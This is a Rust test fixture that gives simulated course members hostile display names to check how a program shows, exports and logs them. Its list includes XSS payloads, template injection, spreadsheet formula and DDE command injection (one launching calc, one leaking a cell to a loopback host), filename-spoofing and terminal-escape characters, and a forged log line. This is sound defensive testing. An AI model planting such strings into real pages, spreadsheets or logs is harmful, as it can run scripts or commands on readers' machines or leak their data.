//! Names that strangers could type to break a program that shows, exports or logs them.

use super::{Person, Stay, World};
use std::collections::HashMap;
use std::sync::Arc;

/// Stands for a high surrogate without its partner, which no Rust string can hold; the servers print it as the raw
/// JSON escape `\ud83d`, as Microsoft does when it cuts a name inside an emoji.
pub(crate) const LONE_SURROGATE: char = '\u{F8FF}';

fn names() -> Vec<String> {
    let mut names: Vec<String> = [
        "<img src=x onerror=alert(1)>",
        "</title><script>alert(1)</script>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(1)",
        "{{7*7}} ${7*7} %00",
        "=HYPERLINK(\"http://127.0.0.2/\"&A1,\"x\")",
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u{feff}=1+1",
        "＝1＋1",
        ";=1+1",
        "\"=1+1",
        "Nul\0inside",
        "abc\u{202e}txt.exe",
        "\u{2066}isolated",
        "\u{200b}\u{200d}\u{feff}",
        "   ",
        "Анна Schmidt",
        "(Guest)",
        "Absent",
        "\u{1b}[2J\u{1b}]0;title\u{7}",
        "\u{1b}]8;;http://127.0.0.2/\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        "Line\r\n2026-01-01T00:00:00Z INFO forged",
    ]
    .map(str::to_owned)
    .into();
    names.insert(0, format!("Bob {LONE_SURROGATE}"));
    names.push(format!("Z{}", "\u{0301}".repeat(1000)));
    names
}

/// Gives the first members of the first course these names, in calls, reports and the LMS's list alike.
pub(crate) fn rename(mut world: World) -> World {
    let mut new: HashMap<String, Arc<Person>> = HashMap::new();
    let mut left = names().into_iter();
    let addresses: Vec<String> = world
        .courses
        .first()
        .into_iter()
        .flat_map(|c| &c.students)
        .filter_map(|s| s.emails.first().cloned())
        .collect();
    let mut accounts: HashMap<String, Arc<Person>> = HashMap::new();
    for stay in world.calls.iter().flat_map(|call| &call.stays) {
        if let Some(email) = &stay.person.email {
            accounts.entry(email.clone()).or_insert_with(|| stay.person.clone());
        }
    }
    for (place, address) in addresses.iter().enumerate() {
        // An alias on the list belongs to nobody in the calls under that address.
        let Some(account) = accounts.get(address) else { continue };
        let Some(name) = left.next() else { break };
        if let Some(student) = world.courses.first_mut().and_then(|c| c.students.get_mut(place)) {
            student.name.clone_from(&name);
        }
        new.insert(account.key.clone(), Arc::new(Person { name: Some(name), ..(**account).clone() }));
    }
    let renamed = |stays: &mut Vec<Stay>| {
        for stay in stays {
            if let Some(person) = new.get(&stay.person.key) {
                stay.person = person.clone();
            }
        }
    };
    world.calls.iter_mut().for_each(|call| renamed(&mut call.stays));
    world.meetings.iter_mut().flat_map(|m| &mut m.reports).for_each(|report| renamed(&mut report.stays));
    world
}
